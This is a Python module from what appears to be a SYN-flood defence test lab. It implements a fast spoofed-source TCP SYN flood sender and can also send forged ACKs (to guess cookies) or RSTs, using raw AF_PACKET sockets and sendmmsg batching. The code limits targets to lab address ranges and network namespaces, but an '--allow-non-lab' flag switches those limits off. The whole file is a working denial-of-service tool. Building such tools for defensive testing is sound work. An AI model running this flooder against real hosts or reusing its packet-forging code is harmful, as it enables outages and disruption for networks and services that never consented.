"""Bounded spoofed-source SYN flood sender for the test lab.

Contract:
- Sends prebuilt Ethernet + IPv4/IPv6 + TCP SYN frames (MSS option) on one
  interface through an AF_PACKET raw socket. Run it inside the attacker netns
  (``Lab.flood`` does); it never resolves routes or ARP itself: the caller names
  both MAC addresses.
- Every flood is bounded twice: it stops after ``count`` frames or ``seconds``
  of sending, whichever comes first. Building the frame pool is bounded by
  ``count`` too and is not part of ``seconds``.
- Frames are fully valid: IPv4 header checksum and TCP checksum are computed in
  full (AF_PACKET frames arrive at the peer as CHECKSUM_NONE, so the receiving
  stack verifies them; a wrong checksum would show up as Tcp InCsumErrors).
- Sources come from a seeded RNG (same seed → same frames). IPv4 sources avoid
  0/8, 10.77/16 (the lab), 127/8 and 224/3 (multicast, reserved, broadcast);
  IPv6 sources lie in 2001:db8::/32 (documentation space).
- Safety: refuses destinations outside the lab's ranges (10.77.0.0/16,
  fd77::/16) and refuses to run outside a named (``ip netns``) network
  namespace, i.e. never from the host's own stack, unless the
  caller passes ``allow_non_lab=True`` (``--allow-non-lab``).
- ``sources=N`` limits the flood to N distinct source addresses (few-source and
  single-source scenarios); otherwise every frame in the pool has its own source.
- Rate: unlimited by default (as fast as the kernel takes frames). ``pps=R``
  paces the sender at R frames/s; with ``ramp_to=R2`` as well, the rate climbs
  from R to R2 over ``seconds`` (``ramp="linear"``, or ``"exp"``: geometric, the
  same factor every second). Pacing follows the cumulative schedule, so a
  sender that falls behind catches up in batches of at most 256 frames.
- The result also carries ``started_at``/``ended_at``: wall-clock (time.time())
  instants of the first and last send, for correlating with other logs.

Speed: the send loop hands a whole batch of prebuilt frames to the kernel with
one ``sendmmsg(2)`` through ctypes (one Python-level call per 256 frames). When
that is unavailable it falls back to ``socket.send`` in a lean loop.

CLI: ``python -m synguard_lab.flood --iface a0 --dst-mac M --src-mac M --dst IP
--dport 80 --count N --seconds S --seed K [--sources N] [--ipv6] [--ack] [--pps R
[--ramp-to R2 [--ramp linear|exp]]]`` prints one JSON line: {"sent": n,
"seconds": t, "pps": x, ...}.
"""

from __future__ import annotations

import argparse
import ctypes
import ctypes.util
import errno
import ipaddress
import itertools
import json
import math
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
IPPROTO_TCP = 6
TCP_FLAG_SYN = 0x02
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20

# Default pool: enough distinct frames that a one-second window at the rates
# this sender reaches (~10^5 pps) sees (almost) only new sources, which is what
# the spoofed-random classifier looks for. Bigger pools only cost build time.
DEFAULT_POOL = 1 << 18
BATCH = 256          # frames per sendmmsg() call / per deadline check
MSS = 1460

# IPv4 source ranges never used (first octet / prefix checks in _v4_ok).
_LAB_NET4 = int(ipaddress.IPv4Address("10.77.0.0"))
_DOC6_PREFIX = 0x20010DB8   # 2001:db8::/32


LAB_NETS = (ipaddress.ip_network("10.77.0.0/16"), ipaddress.ip_network("fd77::/16"))


def check_lab_target(dst: str) -> None:
    """Raise unless dst is a lab address and this thread is in an `ip netns`."""
    ip = ipaddress.ip_address(dst)
    if not any(ip.version == n.version and ip in n for n in LAB_NETS):
        raise ValueError(f"{dst} is outside the lab ranges {[str(n) for n in LAB_NETS]}")
    here = os.stat("/proc/thread-self/ns/net")
    try:
        names = os.listdir("/run/netns")
    except FileNotFoundError:
        names = []
    for name in names:
        try:
            st = os.stat(os.path.join("/run/netns", name))
        except OSError:
            continue
        if (st.st_dev, st.st_ino) == (here.st_dev, here.st_ino):
            return
    raise ValueError("refusing to flood outside a named network namespace "
                     "(run it via `ip netns exec`, e.g. Lab.flood)")


def _v4_ok(a: int) -> bool:
    first = a >> 24
    if first == 0 or first == 127 or first >= 224:   # 0/8, loopback, 224/3
        return False
    if (a & 0xFFFF0000) == _LAB_NET4:                 # the lab's 10.77/16
        return False
    return True


def _fold(s: int) -> int:
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return s


def _words(b: bytes) -> int:
    """Sum of the big-endian 16-bit words of b (len(b) even)."""
    return sum(struct.unpack(f"!{len(b) // 2}H", b))


def mac_bytes(mac: str) -> bytes:
    b = bytes.fromhex(mac.replace(":", "").replace("-", ""))
    if len(b) != 6:
        raise ValueError(f"bad MAC address {mac!r}")
    return b


def random_sources(rng: random.Random, n: int, ipv6: bool) -> list[bytes]:
    """n distinct random source addresses (packed, 4 or 16 bytes)."""
    out: set[bytes] = set()
    if ipv6:
        while len(out) < n:
            out.add(struct.pack("!IIII", _DOC6_PREFIX, rng.getrandbits(32),
                                rng.getrandbits(32), rng.getrandbits(32)))
    else:
        if n > 0xD0000000:
            raise ValueError("too many IPv4 sources")
        while len(out) < n:
            a = rng.getrandbits(32)
            if _v4_ok(a):
                out.add(struct.pack("!I", a))
    lst = list(out)
    rng.shuffle(lst)   # set order is hash order; make it depend on the seed only
    return lst


# Frame layout (bytes): Ethernet 14 | IPv4 20 or IPv6 40 | TCP 20 + MSS option 4.
_TCP_LEN = 24
_ETH = struct.Struct("!6s6sH")
_IP4 = struct.Struct("!BBHHHBBH4s4s")
_IP6 = struct.Struct("!IHBB16s16s")
_TCP = struct.Struct("!HHIIBBHHHBBH")


def build_frames(*, dst: str, dport: int, dst_mac: str, src_mac: str, n: int,
                 seed: int, sources: int | None = None,
                 ipv6: bool | None = None) -> tuple[bytearray, int]:
    """Build n SYN frames into one contiguous buffer.

    Returns (buffer, frame_length). Checksums are computed incrementally: the
    constant part of each sum once, then only the per-frame words (source
    address, source port, ISN, IP ID) are added.
    """
    dst_ip = ipaddress.ip_address(dst)
    if ipv6 is None:
        ipv6 = dst_ip.version == 6
    if ipv6 != (dst_ip.version == 6):
        raise ValueError(f"destination {dst} does not match ipv6={ipv6}")
    if not 0 < dport < 65536:
        raise ValueError(f"bad port {dport}")
    if n <= 0:
        raise ValueError("need at least one frame")
    rng = random.Random(seed)
    nsrc = n if sources is None else max(1, min(int(sources), n))
    srcs = random_sources(rng, nsrc, ipv6)
    eth = _ETH.pack(mac_bytes(dst_mac), mac_bytes(src_mac),
                    ETH_P_IPV6 if ipv6 else ETH_P_IP)
    daddr = dst_ip.packed
    # TCP header words that are the same in every frame: dport, ack=0,
    # data offset 6 (24 bytes) + SYN, window, csum=0, urg=0, MSS option.
    tcp_const = (dport + ((6 << 12) | TCP_FLAG_SYN) + 64240
                 + ((2 << 8) | 4) + MSS)
    if ipv6:
        # Pseudo header: src, dst, upper-layer length (32 bit), next header.
        tcp_const += _words(daddr) + _TCP_LEN + IPPROTO_TCP
        ip_len = 40
    else:
        tcp_const += _words(daddr) + IPPROTO_TCP + _TCP_LEN
        ip_len = 20
        # IPv4 header constant words: ver/ihl/tos, total length, flags (DF),
        # ttl/proto, daddr. Variable: id, saddr.
        ip_const = ((0x45 << 8) + (20 + _TCP_LEN) + 0x4000
                    + ((64 << 8) | IPPROTO_TCP) + _words(daddr))
    flen = 14 + ip_len + _TCP_LEN
    buf = bytearray(flen * n)
    buf[0:14] = eth
    # Pre-split sources into their word sums once.
    src_sums = [_words(s) for s in srcs]
    getrandbits = rng.getrandbits
    randrange = rng.randrange
    tcp_pack = _TCP.pack_into
    tcp_off = 14 + ip_len
    for i in range(n):
        off = i * flen
        if i:
            buf[off:off + 14] = eth
        k = i if sources is None else randrange(nsrc)
        saddr = srcs[k]
        ssum = src_sums[k]
        sport = 1024 + randrange(64512)
        isn = getrandbits(32)
        if ipv6:
            _IP6.pack_into(buf, off + 14, 0x60000000, _TCP_LEN, IPPROTO_TCP, 64,
                           saddr, daddr)
        else:
            ipid = getrandbits(16)
            _IP4.pack_into(buf, off + 14, 0x45, 0, 20 + _TCP_LEN, ipid, 0x4000,
                           64, IPPROTO_TCP,
                           0xFFFF - _fold(ip_const + ipid + ssum), saddr, daddr)
        csum = 0xFFFF - _fold(tcp_const + ssum + sport
                              + (isn >> 16) + (isn & 0xFFFF))
        tcp_pack(buf, off + tcp_off, sport, dport, isn, 0, 6 << 4, TCP_FLAG_SYN,
                 64240, csum, 0, 2, 4, MSS)
    return buf, flen


# Forged handshake ACKs (``ack=True``, ``--ack``): what an attacker sends to guess
# a cookie. Ethernet | IP | TCP 20 + NOP, NOP, Timestamps (32 bytes), ACK set, random
# seq, ack, TSval and TSecr. Checksums are computed per frame (built once per pool).
TCP_FLAG_ACK = 0x10
_ACK_TCP_LEN = 32
_TCP_TS = struct.Struct("!HHIIBBHHHBBBBII")


TCP_FLAG_RST = 0x04


def build_ack_frames(*, dst: str, dport: int, dst_mac: str, src_mac: str, n: int,
                     seed: int, sources: int | None = None,
                     ipv6: bool | None = None, flags: int = TCP_FLAG_ACK) -> tuple[bytearray, int]:
    """n forged ACK frames (RSTs with flags=TCP_FLAG_RST) in one buffer; returns (buffer, frame_length)."""
    dst_ip = ipaddress.ip_address(dst)
    ipv6 = dst_ip.version == 6 if ipv6 is None else ipv6
    if ipv6 != (dst_ip.version == 6) or not 0 < dport < 65536 or n <= 0:
        raise ValueError(f"bad ACK flood parameters: dst={dst} ipv6={ipv6} dport={dport} n={n}")
    rng = random.Random(seed)
    nsrc = n if sources is None else max(1, min(int(sources), n))
    srcs = random_sources(rng, nsrc, ipv6)
    eth = _ETH.pack(mac_bytes(dst_mac), mac_bytes(src_mac), ETH_P_IPV6 if ipv6 else ETH_P_IP)
    daddr = dst_ip.packed
    ip_len = 40 if ipv6 else 20
    flen = 14 + ip_len + _ACK_TCP_LEN
    buf = bytearray(flen * n)
    for i in range(n):
        off = i * flen
        saddr = srcs[i if sources is None else rng.randrange(nsrc)]
        buf[off:off + 14] = eth
        if ipv6:
            _IP6.pack_into(buf, off + 14, 0x60000000, _ACK_TCP_LEN, IPPROTO_TCP, 64, saddr, daddr)
        else:
            ipid = rng.getrandbits(16)
            hdr = _IP4.pack(0x45, 0, 20 + _ACK_TCP_LEN, ipid, 0x4000, 64, IPPROTO_TCP, 0, saddr, daddr)
            buf[off + 14:off + 34] = hdr[:10] + struct.pack("!H", 0xFFFF - _fold(_words(hdr))) + hdr[12:]
        tcp = _TCP_TS.pack(1024 + rng.randrange(64512), dport, rng.getrandbits(32), rng.getrandbits(32),
                           8 << 4, flags, 502, 0, 0, 1, 1, 8, 10, rng.getrandbits(32), rng.getrandbits(32))
        pseudo = _words(saddr) + _words(daddr) + IPPROTO_TCP + _ACK_TCP_LEN
        csum = 0xFFFF - _fold(pseudo + _words(tcp))
        t = off + 14 + ip_len
        buf[t:t + _ACK_TCP_LEN] = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    return buf, flen


# --- pacing -------------------------------------------------------------------

RAMPS = ("linear", "exp")


def schedule(pps: float | None, seconds: float, ramp_to: float | None = None,
             ramp: str = "linear"):
    """Cumulative frames allowed t seconds after the start, as a function of t.

    None when unpaced (pps None). Constant pps, or a ramp from pps to ramp_to
    over `seconds` (linear, or exponential: r(t) = pps * (ramp_to/pps)^(t/seconds)).
    """
    if pps is None:
        if ramp_to is not None:
            raise ValueError("ramp_to needs a starting pps")
        return None
    if not pps > 0 or (ramp_to is not None and not ramp_to > 0):
        raise ValueError("pps and ramp_to must be positive")
    if ramp not in RAMPS:
        raise ValueError(f"bad ramp {ramp!r}: one of {RAMPS}")
    p0 = float(pps)
    p1 = float(ramp_to) if ramp_to is not None else p0
    T = float(seconds)
    if p1 == p0:
        return lambda t: p0 * t
    if ramp == "linear":
        def n_linear(t):
            if t <= T:
                return p0 * t + (p1 - p0) * t * t / (2 * T)
            return (p0 + p1) * T / 2 + p1 * (t - T)
        return n_linear
    lk = math.log(p1 / p0)

    def n_exp(t):
        if t <= T:
            return p0 * T / lk * math.expm1(lk * t / T)
        return (p1 - p0) * T / lk + p1 * (t - T)
    return n_exp


def _paced(allowed, sent, start, deadline, now):
    """Frames that may go now under the cumulative schedule `allowed` (>= 1),
    sleeping until then; 0 when the deadline passes first."""
    while True:
        t = now()
        if t >= deadline:
            return 0
        k = int(allowed(t - start)) - sent
        if k > 0:
            return k
        time.sleep(0.0005)


def _next_batch(count, done, allowed, start, deadline, now) -> int:
    """How many frames the next batch may send (0: stop): at most BATCH, what is
    left of `count`, and, when paced, what the schedule allows by now."""
    k = min(BATCH, count - done)
    if allowed is not None:
        k = min(k, _paced(allowed, done, start, deadline, now))
    return k


# --- sendmmsg through ctypes -------------------------------------------------

class _IOVec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


class _MsgHdr(ctypes.Structure):
    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
                ("msg_iov", ctypes.c_void_p), ("msg_iovlen", ctypes.c_size_t),
                ("msg_control", ctypes.c_void_p),
                ("msg_controllen", ctypes.c_size_t),
                ("msg_flags", ctypes.c_int)]


class _MMsgHdr(ctypes.Structure):
    _fields_ = [("msg_hdr", _MsgHdr), ("msg_len", ctypes.c_uint)]


def _libc_sendmmsg():
    try:
        libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6",
                           use_errno=True)
        fn = libc.sendmmsg
    except (OSError, AttributeError):
        return None
    fn.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
    fn.restype = ctypes.c_int
    return fn


def _send_mmsg(sock, buf, flen, n, count, begin, allowed=None):
    """Send with sendmmsg(2); returns (sent, errors). begin() is called once the
    message arrays are built, just before the first frame, and returns (start,
    deadline) in time.monotonic(). `allowed`: see schedule()."""
    sendmmsg = _libc_sendmmsg()
    if sendmmsg is None:
        return None
    cbuf = (ctypes.c_char * len(buf)).from_buffer(buf)
    base = ctypes.addressof(cbuf)
    iov = (_IOVec * n)()
    # One message per frame, laid out twice so a batch never wraps: messages
    # [i, i+BATCH) are always contiguous in `msgs` for any start i < n.
    m = n + BATCH
    msgs = (_MMsgHdr * m)()
    iov_base = ctypes.addressof(iov)
    isz = ctypes.sizeof(_IOVec)
    for i in range(n):
        iov[i].iov_base = base + i * flen
        iov[i].iov_len = flen
    for j in range(m):
        h = msgs[j].msg_hdr
        h.msg_iov = iov_base + (j % n) * isz
        h.msg_iovlen = 1
    msgs_base = ctypes.addressof(msgs)
    msz = ctypes.sizeof(_MMsgHdr)
    fd = sock.fileno()
    sent = errors = 0
    pos = 0
    now = time.monotonic
    start, deadline = begin()  # building the arrays above takes ~0.5 s for 2^18 frames: not flood time
    while sent + errors < count:
        k = _next_batch(count, sent + errors, allowed, start, deadline, now)
        if k == 0:
            break
        r = sendmmsg(fd, msgs_base + pos * msz, k, 0)
        if r < 0:
            e = ctypes.get_errno()
            if e not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
                raise OSError(e, f"sendmmsg: {errno.errorcode.get(e, e)}")
            # The frame at `pos` was refused (receiver backlog full): it is
            # lost, not "sent"; skip it. The deadline still bounds us.
            errors += 1
            r = 0
            pos = (pos + 1) % n
        sent += r
        pos = (pos + r) % n
        if now() >= deadline:
            break
    del cbuf   # release the buffer export before buf may be resized/freed
    return sent, errors


def _send_loop(sock, buf, flen, n, count, begin, allowed=None):
    """Fallback: one send() per frame, deadline checked per batch (begin: see _send_mmsg)."""
    frames = [bytes(buf[i * flen:(i + 1) * flen]) for i in range(n)]
    send = sock.send
    it = itertools.cycle(frames)
    islice = itertools.islice
    now = time.monotonic
    sent = errors = 0
    start, deadline = begin()
    while sent + errors < count:
        k = _next_batch(count, sent + errors, allowed, start, deadline, now)
        if k == 0:
            break
        for f in islice(it, k):
            try:
                send(f)
            except OSError as e:
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                errors += 1
                continue
            sent += 1
        if now() >= deadline:
            break
    return sent, errors


def flood(iface: str, *, dst: str, dst_mac: str, src_mac: str, dport: int = 80,
          count: int, seconds: float, seed: int = 0, sources: int | None = None,
          ipv6: bool | None = None, pool: int = DEFAULT_POOL,
          method: str = "auto", allow_non_lab: bool = False,
          pps: float | None = None, ramp_to: float | None = None,
          ramp: str = "linear", ack: bool = False, rst: bool = False) -> dict:
    """Send at most `count` SYNs (forged ACKs with ack=True, RSTs with rst=True) for at most
    `seconds` on `iface`.

    Run in the netns that owns `iface`. Returns {"sent", "seconds", "pps",
    "errors", "pool", "build_seconds", "method", "started_at", "ended_at"};
    "sent" counts frames the kernel accepted, "errors" frames it refused
    (ENOBUFS), which end the attempt for that frame. `pps`/`ramp_to`/`ramp`
    pace the sender (module docstring); unpaced by default.
    """
    if count <= 0 or seconds <= 0:
        raise ValueError("count and seconds must both be positive (bounded flood)")
    if method not in ("auto", "sendmmsg", "send"):
        raise ValueError(f"bad method {method!r}")
    allowed = schedule(pps, seconds, ramp_to, ramp)
    if not allow_non_lab:
        check_lab_target(dst)
    t0 = time.monotonic()
    n = max(1, min(int(count), int(pool)))
    if ack or rst:
        buf, flen = build_ack_frames(dst=dst, dport=dport, dst_mac=dst_mac, src_mac=src_mac, n=n, seed=seed,
                                     sources=sources, ipv6=ipv6, flags=TCP_FLAG_RST if rst else TCP_FLAG_ACK)
    else:
        buf, flen = build_frames(dst=dst, dport=dport, dst_mac=dst_mac,
                                 src_mac=src_mac, n=n, seed=seed, sources=sources,
                                 ipv6=ipv6)
    build = time.monotonic() - t0
    proto = ETH_P_IPV6 if buf[12:14] == b"\x86\xdd" else ETH_P_IP
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(proto)) as s:
        s.bind((iface, 0))
        try:
            s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        except OSError:
            pass   # older kernels: the qdisc path works too, just slower
        clock: dict[str, float] = {}

        def begin() -> tuple[float, float]:
            """The flood's clock starts at its first frame (started_at: wall time)."""
            clock["wall"], clock["mono"] = time.time(), time.monotonic()
            return clock["mono"], clock["mono"] + seconds

        res = None
        used = method
        if method in ("auto", "sendmmsg"):
            res = _send_mmsg(s, buf, flen, n, count, begin, allowed)
            used = "sendmmsg"
            if res is None and method == "sendmmsg":
                raise OSError("sendmmsg unavailable")
        if res is None:
            res = _send_loop(s, buf, flen, n, count, begin, allowed)
            used = "send"
        elapsed = time.monotonic() - clock["mono"]
        started_at = clock["wall"]
        ended_at = started_at + elapsed
    sent, errors = res
    return {"sent": sent, "seconds": round(elapsed, 6),
            "pps": round(sent / elapsed, 1) if elapsed > 0 else 0.0,
            "errors": errors, "pool": n, "build_seconds": round(build, 3),
            "method": used, "started_at": round(started_at, 6),
            "ended_at": round(ended_at, 6)}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m synguard_lab.flood",
                                description="Bounded spoofed SYN flood (lab use only)")
    p.add_argument("--iface", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--src-mac", required=True)
    p.add_argument("--dst", required=True, help="destination address (v4 or v6)")
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--sources", type=int, default=None,
                   help="number of distinct source addresses (default: one per frame)")
    p.add_argument("--ipv6", action="store_true",
                   help="IPv6 frames (implied by a v6 --dst)")
    p.add_argument("--pool", type=int, default=DEFAULT_POOL,
                   help="frames prebuilt (cycled when --count is larger)")
    p.add_argument("--method", choices=("auto", "sendmmsg", "send"), default="auto")
    p.add_argument("--pps", type=float, default=None,
                   help="pace at this many frames/s (default: as fast as possible)")
    p.add_argument("--ramp-to", type=float, default=None,
                   help="with --pps: climb from --pps to this rate over --seconds")
    p.add_argument("--ramp", choices=RAMPS, default="linear",
                   help="ramp shape (default linear; exp: same factor every second)")
    p.add_argument("--ack", action="store_true",
                   help="forged handshake ACKs (random seq/ack/timestamps) instead of SYNs")
    p.add_argument("--rst", action="store_true",
                   help="forged RSTs (random seq) instead of SYNs")
    p.add_argument("--allow-non-lab", action="store_true",
                   help="allow targets outside 10.77/16, fd77::/16 and outside ip netns")
    a = p.parse_args(argv)
    ipv6 = True if a.ipv6 else None
    try:
        res = flood(a.iface, dst=a.dst, dst_mac=a.dst_mac, src_mac=a.src_mac,
                    dport=a.dport, count=a.count, seconds=a.seconds, seed=a.seed,
                    sources=a.sources, ipv6=ipv6, pool=a.pool, method=a.method,
                    allow_non_lab=a.allow_non_lab, pps=a.pps,
                    ramp_to=a.ramp_to, ramp=a.ramp, ack=a.ack, rst=a.rst)
    except (ValueError, OSError) as e:
        print(f"flood: {e}", file=sys.stderr)
        return 2
    print(json.dumps(res), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
